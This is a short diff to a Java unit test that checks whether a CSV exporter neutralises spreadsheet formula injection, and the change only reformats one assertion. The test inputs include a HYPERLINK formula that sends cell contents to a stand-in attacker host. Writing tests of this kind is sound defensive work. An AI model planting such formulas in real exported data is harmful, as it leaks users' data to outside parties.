@@ -23,7 +23,9 @@ class CsvTest {
                 "\uff0dx",
                 "\uff20x",
                 "=HYPERLINK(\"http://evil.example/?\"&A1)")) {
-            assertThat(Csv.of(List.of(List.of(formula))).replaceFirst("^\"", "")).as(formula).startsWith("'");
+            assertThat(Csv.of(List.of(List.of(formula))).replaceFirst("^\"", ""))
+                    .as(formula)
+                    .startsWith("'");
         }
     }
 
